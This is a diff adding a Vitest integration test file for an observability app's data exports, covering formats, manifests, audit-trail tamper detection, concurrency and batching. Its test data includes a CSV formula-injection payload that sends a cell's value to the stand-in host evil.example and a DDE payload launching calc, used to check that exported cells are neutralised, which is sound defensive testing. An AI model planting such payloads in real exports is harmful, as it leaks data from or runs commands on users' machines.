@@ -1,0 +1,290 @@
+/**
+ * Exports on the real PostgreSQL (server-side cursor) and embedded PGlite
+ * (keyset pages): every kind and format through the route handler, the manifest
+ * read back from the audit trail, `npm run audit:verify -- --export` passing on
+ * the file and failing once one byte changes, CSV formula safety, the audit
+ * trail of exports (intent, ok, aborted), and the concurrency limit.
+ */
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startTestEnv, type TestEnv } from './harness';
+import { setSharedDb, type Db } from '../../lib/db/connection';
+import { createToken } from '../../lib/auth/accounts';
+import { listAudit, verifyAuditChain, appendAudit } from '../../lib/db/audit';
+import { exportBatches } from '../../lib/db/export';
+import { CsvParser, unguardCell } from '../../lib/export/csv';
+import { parseExportQuery, type ExportSpec } from '../../lib/export/query';
+import { manifestSchema, type ExportManifest } from '../../lib/export/manifest';
+import { EXPORT_FORMATS } from '../../lib/export/format';
+import { EXPORT_KINDS } from '../../lib/export/kinds';
+import { apiRequest } from '../support/api-client';
+import { hex, makeSpan, toOtlpJson } from '../support/spans';
+import { runCli } from '../support/cli';
+import * as exportRoute from '../../app/api/export/route';
+import * as manifestRoute from '../../app/api/export/manifest/route';
+import type { FlatSpan } from '../../lib/otlp/types';
+
+const SYSTEM = { actor: 'test', role: 'system', via: 'system' };
+const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+
+let env: TestEnv;
+let auditor: string;
+let dir: string;
+
+function sagaSpans(id: string, fail: boolean, t0: number): FlatSpan[] {
+  const traceId = hex(16);
+  const steps = ['create-order', 'reserve-inventory', 'charge-payment'];
+  return steps.map((step, i) =>
+    makeSpan({
+      traceId,
+      service: i === 1 ? INJECTION : 'orders',
+      name: `POST /${step}`,
+      startMs: t0 + i * 10,
+      endMs: t0 + i * 10 + 5,
+      statusCode: fail && i === 2 ? 2 : 1,
+      statusMessage: fail && i === 2 ? 'card declined, "insufficient funds"\nretry later' : null,
+      attributes: { 'saga.id': id, 'saga.name': 'checkout', 'saga.step': step, 'saga.step.index': i, 'saga.op': 'action', note: '+1 formula?', comma: 'a,b' },
+    }),
+  );
+}
+
+async function ingest(target: TestEnv, spans: FlatSpan[]): Promise<void> {
+  const res = await fetch(`${target.httpUrl}/v1/traces`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: toOtlpJson(spans) });
+  expect(res.status).toBe(200);
+}
+
+const SAGAS = 12;
+const t0 = Date.now() - 3600_000;
+const allSpans = Array.from({ length: SAGAS }, (_, i) => sagaSpans(`export-saga-${String(i).padStart(2, '0')}`, i % 3 === 0, t0 + i * 1000)).flat();
+
+interface Exported {
+  body: Buffer;
+  manifest: ExportManifest;
+  file: string;
+  manifestFile: string;
+}
+
+async function doExport(query: string, bearer = auditor): Promise<Exported> {
+  const res = await exportRoute.GET(apiRequest('GET', `/api/export?${query}`, { bearer }));
+  expect(res.status, await res.clone().text().catch(() => '')).toBe(200);
+  const id = res.headers.get('x-sagascope-export-id')!;
+  const body = Buffer.from(await res.arrayBuffer());
+  const m = await manifestRoute.GET(apiRequest('GET', `/api/export/manifest?id=${id}`, { bearer }));
+  expect(m.status).toBe(200);
+  const manifestText = await m.text();
+  const manifest = manifestSchema.parse(JSON.parse(manifestText));
+  const name = `${id}.${manifest.format}`;
+  const file = path.join(dir, name);
+  const manifestFile = path.join(dir, `${name}.manifest.json`);
+  await writeFile(file, body);
+  await writeFile(manifestFile, manifestText);
+  return { body, manifest, file, manifestFile };
+}
+
+function csvRecords(text: string): string[][] {
+  const p = new CsvParser();
+  const out: string[][] = [];
+  p.push(text, (r) => out.push(r));
+  p.end((r) => out.push(r));
+  return out;
+}
+
+const verify = (args: string[]) => runCli('cli/audit-verify.ts', args, { DATABASE_URL: env.databaseUrl });
+
+beforeAll(async () => {
+  env = await startTestEnv();
+  setSharedDb(env.db);
+  dir = await mkdtemp(path.join(tmpdir(), 'sagascope-export-'));
+  auditor = (await createToken(env.db, SYSTEM, { name: 'auditor', role: 'auditor' })).token;
+  await ingest(env, allSpans);
+  for (let i = 0; i < 5; i++) await appendAudit(env.db, { actor: 'bob', role: 'operator', via: 'session', action: 'saga.retry', sagaId: `export-saga-0${i}`, outcome: 'ok', reason: `=cmd|' /C calc'!A0 #${i}` });
+});
+
+afterAll(async () => {
+  await env?.close();
+  if (dir) await rm(dir, { recursive: true, force: true });
+});
+
+describe('every kind and format', () => {
+  for (const kind of EXPORT_KINDS) {
+    for (const format of EXPORT_FORMATS) {
+      it(`${kind} as ${format}: manifest matches, the CLI verifies it, one changed byte fails`, async () => {
+        const e = await doExport(`kind=${kind}&format=${format}`);
+        const expectedRows = kind === 'sagas' ? SAGAS : kind === 'spans' ? allSpans.length : e.manifest.auditHead.seq;
+        expect(e.manifest).toMatchObject({ kind, format, rows: expectedRows, bytes: e.body.length, filters: {} });
+        if (format === 'json') expect(JSON.parse(e.body.toString('utf8'))).toHaveLength(expectedRows);
+        if (format === 'ndjson') expect(e.body.toString('utf8').trimEnd().split('\n')).toHaveLength(expectedRows);
+        if (format === 'csv') expect(csvRecords(e.body.toString('utf8'))).toHaveLength(expectedRows + 1);
+
+        const ok = await verify(['--export', e.file, '--manifest', e.manifestFile]);
+        expect(ok.code, ok.stdout + ok.stderr).toBe(0);
+        expect(ok.stdout).toContain(`export OK: ${expectedRows} ${kind} rows`);
+        if (kind === 'audit') expect(ok.stdout).toContain('whole chain verified');
+
+        const tampered = Buffer.from(e.body);
+        const at = Math.floor(tampered.length / 2);
+        tampered[at] = tampered[at] === 0x41 ? 0x42 : 0x41;
+        await writeFile(e.file, tampered);
+        const bad = await verify(['--export', e.file, '--manifest', e.manifestFile]);
+        expect(bad.code).toBe(1);
+        expect(bad.stdout).toMatch(/export FAILED verification:[\s\S]*SHA-256 differs/);
+      });
+    }
+  }
+});
+
+describe('verification without a manifest file', () => {
+  it('finds the export in the audit trail by its SHA-256, and fails for a changed file', async () => {
+    const e = await doExport('kind=sagas&format=ndjson&name=checkout');
+    const ok = await verify(['--export', e.file]);
+    expect(ok.code, ok.stdout + ok.stderr).toBe(0);
+    expect(ok.stdout).toContain(`the export is recorded in entry #${e.manifest.auditEntry!.seq}`);
+    await writeFile(e.file, Buffer.concat([e.body, Buffer.from('\n')]));
+    const bad = await verify(['--export', e.file]);
+    expect(bad.code).toBe(1);
+    expect(bad.stdout).toContain('is recorded in the audit trail');
+  });
+});
+
+describe('contents', () => {
+  it('CSV cells that would run as spreadsheet formulas are prefixed with a quote', async () => {
+    const e = await doExport('kind=spans&format=csv');
+    const text = e.body.toString('utf8');
+    expect(text).toMatch(/^traceId,spanId,/);
+    expect(text.split('\r\n').length).toBeGreaterThan(allSpans.length);
+    const [header, ...rows] = csvRecords(text);
+    const service = header!.indexOf('service');
+    const message = header!.indexOf('statusMessage');
+    const injected = rows.filter((r) => r[service]!.includes('HYPERLINK'));
+    expect(injected).toHaveLength(SAGAS);
+    for (const r of injected) expect(r[service]).toBe(`'${INJECTION}`);
+    expect(rows.some((r) => r[message] === 'card declined, "insufficient funds"\nretry later')).toBe(true);
+    // No raw cell starts with a formula character.
+    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const audit = csvRecords((await doExport('kind=audit&format=csv&action=saga.retry')).body.toString('utf8'));
+    const reason = audit[0]!.indexOf('reason');
+    expect(audit.slice(1).map((r) => unguardCell(r[reason]!))).toContain(`=cmd|' /C calc'!A0 #0`);
+  });
+
+  it('applies the saga list filters and time range', async () => {
+    type Row = { id: string; status: string; services: string[] };
+    const all = JSON.parse((await doExport('kind=sagas&format=json')).body.toString('utf8')) as Row[];
+    // Sagas 00, 03, 06, 09 have a failed step; their status differs from the others'.
+    const failing = all.find((r) => r.id === 'export-saga-00')!.status;
+    expect(all.find((r) => r.id === 'export-saga-01')!.status).not.toBe(failing);
+    const rows = JSON.parse((await doExport(`kind=sagas&format=json&status=${failing}`)).body.toString('utf8')) as Row[];
+    expect(rows.map((r) => r.id)).toEqual(['09', '06', '03', '00'].map((n) => `export-saga-${n}`));
+    expect(rows[0]!.services).toContain(INJECTION);
+    const from = new Date(t0 + 5_500).toISOString();
+    const recent = JSON.parse((await doExport(`kind=sagas&format=json&from=${from}`)).body.toString('utf8')) as { id: string }[];
+    expect(recent.map((r) => r.id).sort()).toEqual(['06', '07', '08', '09', '10', '11'].map((n) => `export-saga-${n}`));
+    const spans = JSON.parse((await doExport('kind=spans&format=json&saga=export-saga-03')).body.toString('utf8')) as { sagaId: string; startedAt: string; attributes: Record<string, unknown> }[];
+    expect(spans).toHaveLength(3);
+    expect(spans[0]!.attributes).toMatchObject({ 'saga.id': 'export-saga-03', comma: 'a,b' });
+    expect(spans[0]!.startedAt).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
+    expect((await exportRoute.GET(apiRequest('GET', '/api/export?kind=sagas&bogus=1', { bearer: auditor }))).status).toBe(400);
+    expect((await exportRoute.GET(apiRequest('GET', '/api/export?kind=everything', { bearer: auditor }))).status).toBe(400);
+  });
+
+  it('an audit export is a snapshot up to the head in its manifest, and a forged entry is caught', async () => {
+    const e = await doExport('kind=audit&format=ndjson');
+    const lines = e.body.toString('utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as { seq: number; actor: string });
+    expect(lines.at(-1)!.seq).toBe(e.manifest.auditHead.seq);
+    // Rewrite one entry and forge a manifest that matches the altered file.
+    const forgedLines = e.body.toString('utf8').replace('"actor":"bob"', '"actor":"eve"');
+    const forgedBody = Buffer.from(forgedLines);
+    const { createHash } = await import('node:crypto');
+    const forgedManifest = { ...e.manifest, sha256: createHash('sha256').update(forgedBody).digest('hex'), bytes: forgedBody.length };
+    await writeFile(e.file, forgedBody);
+    await writeFile(e.manifestFile, JSON.stringify(forgedManifest));
+    const res = await verify(['--export', e.file, '--manifest', e.manifestFile]);
+    expect(res.code).toBe(1);
+    expect(res.stdout).toMatch(/audit entry \d+: entry \d+ was altered/);
+  });
+});
+
+describe('exports are audited', () => {
+  it('records an intent and an ok entry carrying the manifest', async () => {
+    const e = await doExport('kind=spans&format=ndjson&service=orders');
+    const entries = (await listAudit(env.db, { action: 'export', limit: 2 })).items;
+    expect(entries.map((x) => x.outcome)).toEqual(['ok', 'intent']);
+    expect(entries[0]!.ref).toBe(entries[1]!.seq);
+    expect(entries[0]).toMatchObject({ actor: 'token:auditor', role: 'auditor', via: 'token', request: { exportId: e.manifest.exportId, kind: 'spans', filters: { service: 'orders' } } });
+    expect(entries[0]!.result).toMatchObject({ sha256: e.manifest.sha256, rows: e.manifest.rows });
+    expect(e.manifest.auditEntry).toEqual({ seq: entries[0]!.seq, hash: entries[0]!.hash });
+    expect((await verifyAuditChain(env.db)).ok).toBe(true);
+  });
+
+  it('records a client that stops reading as aborted; its manifest is refused', async () => {
+    const res = await exportRoute.GET(apiRequest('GET', '/api/export?kind=spans&format=csv', { bearer: auditor }));
+    const id = res.headers.get('x-sagascope-export-id')!;
+    const reader = res.body!.getReader();
+    await reader.read();
+    await reader.cancel();
+    const entries = (await listAudit(env.db, { action: 'export', limit: 1 })).items;
+    expect(entries[0]).toMatchObject({ outcome: 'aborted', request: { exportId: id } });
+    expect((await manifestRoute.GET(apiRequest('GET', `/api/export/manifest?id=${id}`, { bearer: auditor }))).status).toBe(409);
+  });
+
+  it('allows two exports at a time', async () => {
+    const a = await exportRoute.GET(apiRequest('GET', '/api/export?kind=spans', { bearer: auditor }));
+    const b = await exportRoute.GET(apiRequest('GET', '/api/export?kind=spans', { bearer: auditor }));
+    const c = await exportRoute.GET(apiRequest('GET', '/api/export?kind=spans', { bearer: auditor }));
+    expect([a.status, b.status, c.status]).toEqual([200, 200, 429]);
+    await Promise.all([a.body!.cancel(), b.body!.cancel()]);
+    const d = await exportRoute.GET(apiRequest('GET', '/api/export?kind=sagas', { bearer: auditor }));
+    expect(d.status).toBe(200);
+    await d.text();
+  });
+});
+
+describe('batching', () => {
+  async function collect(db: Db, spec: ExportSpec, batchRows: number): Promise<{ batches: number; rows: unknown[] }> {
+    const rows: unknown[] = [];
+    let batches = 0;
+    for await (const b of exportBatches(db, spec, { auditHeadSeq: 1_000_000, nowMs: Date.now(), batchRows })) {
+      batches++;
+      expect(b.length).toBeLessThanOrEqual(batchRows);
+      rows.push(...b);
+    }
+    return { batches, rows };
+  }
+  const spec = (q: string) => {
+    const p = parseExportQuery(new URLSearchParams(q));
+    if (!p.ok) throw new Error(p.error);
+    return p.value;
+  };
+
+  it('gives the same rows in small batches as in one, on PostgreSQL (cursor) and embedded PGlite (keyset pages)', async () => {
+    const lite = await startTestEnv({}, { embedded: true });
+    try {
+      expect(lite.db.reserve).toBeUndefined();
+      expect(env.db.reserve).toBeDefined();
+      await ingest(lite, allSpans);
+      for (const q of ['kind=sagas', 'kind=spans', 'kind=spans&saga=export-saga-04', 'kind=sagas&status=failed']) {
+        const whole = await collect(env.db, spec(q), 10_000);
+        const small = await collect(env.db, spec(q), 5);
+        const embedded = await collect(lite.db, spec(q), 5);
+        expect(small.rows, q).toEqual(whole.rows);
+        expect(small.batches).toBe(Math.ceil(whole.rows.length / 5));
+        const strip = (rows: unknown[]) => rows.map((r) => ({ ...(r as object), receivedAt: null }));
+        expect(strip(embedded.rows), q).toEqual(strip(whole.rows));
+      }
+    } finally {
+      await lite.close();
+    }
+  });
+
+  it('stops early without leaking the connection', async () => {
+    for (let i = 0; i < 15; i++) {
+      for await (const b of exportBatches(env.db, spec('kind=spans'), { auditHeadSeq: 0, nowMs: Date.now(), batchRows: 2 })) {
+        expect(b).toHaveLength(2);
+        break;
+      }
+    }
+    const [row] = await env.db.query<{ n: number }>('SELECT 1 AS n');
+    expect(row!.n).toBe(1);
+  });
+});
